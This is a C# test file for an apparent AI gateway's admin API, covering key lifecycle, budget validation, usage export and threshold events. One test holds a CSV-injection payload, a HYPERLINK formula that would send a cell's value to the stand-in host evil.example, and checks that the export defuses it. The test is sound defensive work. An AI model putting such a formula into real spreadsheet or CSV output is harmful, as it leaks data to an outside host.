using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using Purser.Gateway.Tests.Infrastructure;

namespace Purser.Gateway.Tests.Budgets;

/// <summary>The operators' API: keys shown once, revocation, budgets validated by field, usage queries and CSV.</summary>
[Collection(BudgetCollection.Name)]
public sealed class AdminApiTests
{
    private readonly BudgetFixture _fixture;

    public AdminApiTests(BudgetFixture fixture) => _fixture = fixture;

    private Task<HttpResponseMessage> AdminAsync(HttpMethod method, string path, string? body = null, string secret = BudgetFixture.AdminSecret)
    {
        var request = new HttpRequestMessage(method, path);
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", secret);
        if (body is not null)
        {
            request.Content = new StringContent(body, Encoding.UTF8, "application/json");
        }

        return _fixture.Http.SendAsync(request);
    }

    [Fact]
    public async Task The_admin_api_refuses_anything_but_the_master_key()
    {
        using var none = await _fixture.Http.GetAsync("/admin/keys");
        Assert.Equal(HttpStatusCode.Unauthorized, none.StatusCode);
        var callerKey = await _fixture.CreateKeyAsync("not-an-admin");
        using var wrong = await AdminAsync(HttpMethod.Get, "/admin/keys", secret: callerKey);
        Assert.Equal(HttpStatusCode.Unauthorized, wrong.StatusCode);
    }

    [Fact]
    public async Task A_created_key_works_its_secret_is_shown_once_and_a_revoked_key_is_refused()
    {
        using var created = await AdminAsync(HttpMethod.Post, "/admin/keys", """{"id":"lifecycle","models":["sim-chat"]}""");
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var secret = (await BudgetFixture.ReadJsonAsync(created))["secret"]!.GetValue<string>();

        using (var ok = await _fixture.Http.SendAsync(_fixture.Chat(secret, BudgetFixture.ChatBody(10))))
        {
            Assert.Equal(HttpStatusCode.OK, ok.StatusCode);
        }

        using (var notAllowed = await _fixture.Http.SendAsync(_fixture.Chat(secret, BudgetFixture.ChatBody(10, "claude-sim"))))
        {
            Assert.Equal(HttpStatusCode.Forbidden, notAllowed.StatusCode);
        }

        using var list = await AdminAsync(HttpMethod.Get, "/admin/keys");
        var listed = await list.Content.ReadAsStringAsync();
        Assert.Contains("\"lifecycle\"", listed, StringComparison.Ordinal);
        Assert.DoesNotContain(secret, listed, StringComparison.Ordinal);
        Assert.DoesNotContain("sha256:", listed, StringComparison.Ordinal);

        using (var duplicate = await AdminAsync(HttpMethod.Post, "/admin/keys", """{"id":"lifecycle"}"""))
        {
            Assert.Equal(HttpStatusCode.Conflict, duplicate.StatusCode);
        }

        using (var revoked = await AdminAsync(HttpMethod.Delete, "/admin/keys/lifecycle"))
        {
            Assert.Equal(HttpStatusCode.OK, revoked.StatusCode);
        }

        using var refused = await _fixture.Http.SendAsync(_fixture.Chat(secret, BudgetFixture.ChatBody(10)));
        Assert.Equal(HttpStatusCode.Unauthorized, refused.StatusCode);
    }

    [Theory]
    [InlineData("""{"scope":"key:x","cap_usd":"abc"}""", "cap_usd")]
    [InlineData("""{"scope":"key:x","cap_usd":"-1"}""", "cap_usd")]
    [InlineData("""{"scope":"key:x"}""", "cap_usd")]
    [InlineData("""{"scope":"galaxy:x","cap_usd":"1"}""", "scope")]
    [InlineData("""{"scope":"key:x","cap_usd":"1","timezone":"Mars/Olympus"}""", "timezone")]
    [InlineData("""{"scope":"key:x","cap_usd":"1","window":"fortnightly"}""", "window")]
    [InlineData("""{"scope":"key:x","cap_usd":"1","mode":"yolo"}""", "mode")]
    [InlineData("""{"scope":"key:x","cap_tokens":"many"}""", "cap_tokens")]
    [InlineData("""{"scope":"key:x","cap_usd":"1","degrade":{"fallback_model":"nope"}}""", "degrade.fallback_model")]
    [InlineData("""{"scope":"team:no-such-team","cap_usd":"1"}""", "scope")]
    public async Task An_invalid_budget_is_a_400_naming_the_field_and_changes_nothing(string body, string field)
    {
        await _fixture.CreateKeyAsync("x-" + Math.Abs(body.GetHashCode(StringComparison.Ordinal)));
        using var response = await AdminAsync(HttpMethod.Put, "/admin/budgets/invalid-one", body.Replace("key:x", "key:x-" + Math.Abs(body.GetHashCode(StringComparison.Ordinal)), StringComparison.Ordinal));
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal(field, (await BudgetFixture.ReadJsonAsync(response))["error"]!["param"]!.GetValue<string>());

        using var list = await AdminAsync(HttpMethod.Get, "/admin/budgets");
        Assert.DoesNotContain("invalid-one", await list.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Usage_is_queryable_by_key_and_exported_as_csv()
    {
        var secret = await _fixture.CreateKeyAsync("usage-export");
        for (var i = 0; i < 3; i++)
        {
            using var response = await _fixture.Http.SendAsync(_fixture.Chat(secret, BudgetFixture.ChatBody(10)));
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        }

        using var query = await AdminAsync(HttpMethod.Get, "/admin/usage?key_id=usage-export");
        var data = (await BudgetFixture.ReadJsonAsync(query))["data"]!.AsArray();
        Assert.Equal(3, data.Count);
        Assert.All(data, r => Assert.Equal("usage-export", r!["key_id"]!.GetValue<string>()));

        using var csv = await AdminAsync(HttpMethod.Get, "/admin/usage.csv?key_id=usage-export");
        Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
        var lines = (await csv.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(4, lines.Length);
        Assert.StartsWith("request_id,", lines[0], StringComparison.Ordinal);

        using var badQuery = await AdminAsync(HttpMethod.Get, "/admin/usage?from=yesterday");
        Assert.Equal(HttpStatusCode.BadRequest, badQuery.StatusCode);
    }

    [Fact]
    public async Task A_caller_chosen_model_name_reaches_the_csv_export_as_text_not_a_formula()
    {
        var secret = await _fixture.CreateKeyAsync("csv-injection");
        const string Formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")";
        using (var response = await _fixture.Http.SendAsync(_fixture.Chat(secret, $$"""{"model":{{System.Text.Json.JsonSerializer.Serialize(Formula)}},"messages":[{"role":"user","content":"hi"}]}""")))
        {
            Assert.False(response.IsSuccessStatusCode);
        }

        using var csv = await AdminAsync(HttpMethod.Get, "/admin/usage.csv?key_id=csv-injection");
        var lines = (await csv.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        var row = Assert.Single(lines[1..]);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"open\"\")\",", row, StringComparison.Ordinal);
        Assert.DoesNotContain(",=", row, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Blocks_and_thresholds_are_recorded_as_events_once_per_window()
    {
        var secret = await _fixture.CreateKeyAsync("evented");
        var body = BudgetFixture.ChatBody(100);
        await _fixture.PutBudgetAsync("evented-daily", new JsonObject
        {
            ["scope"] = "key:evented",
            ["cap_usd"] = BudgetFixture.Usd(3 * BudgetFixture.WorstCaseNano(body, 100)),
            ["alert_thresholds"] = new JsonArray(10, 20),
        });

        await Parallel.ForEachAsync(Enumerable.Range(0, 40), new ParallelOptions { MaxDegreeOfParallelism = 16 }, async (_, _) =>
        {
            using var response = await _fixture.Http.SendAsync(_fixture.Chat(secret, body));
        });

        // A concurrent burst is mostly refused while the first holds are in flight, so spend may not have reached the
        // 20% line yet: go on one request at a time until the budget refuses (bounded).
        for (var i = 0; i < 100; i++)
        {
            using var response = await _fixture.Http.SendAsync(_fixture.Chat(secret, body));
            if (response.StatusCode == HttpStatusCode.PaymentRequired)
            {
                break;
            }
        }

        // Events are written off the request path; poll a bounded number of times.
        JsonArray events = [];
        for (var attempt = 0; attempt < 150; attempt++)
        {
            using var response = await AdminAsync(HttpMethod.Get, "/admin/events?scope=key:evented");
            events = (await BudgetFixture.ReadJsonAsync(response))["data"]!.AsArray();
            if (events.Any(e => e!["type"]!.GetValue<string>() == "budget.blocked") && events.Count(e => e!["type"]!.GetValue<string>() == "budget.threshold") >= 2)
            {
                break;
            }

            await Poll.NextAsync(100);
        }

        Assert.Contains(events, e => e!["type"]!.GetValue<string>() == "budget.blocked");
        var thresholds = events.Where(e => e!["type"]!.GetValue<string>() == "budget.threshold").Select(e => e!["message"]!.GetValue<string>()).ToList();
        Assert.Equal(2, thresholds.Count);
        Assert.Contains(thresholds, m => m.Contains("10%", StringComparison.Ordinal));
        Assert.Contains(thresholds, m => m.Contains("20%", StringComparison.Ordinal));
    }
}
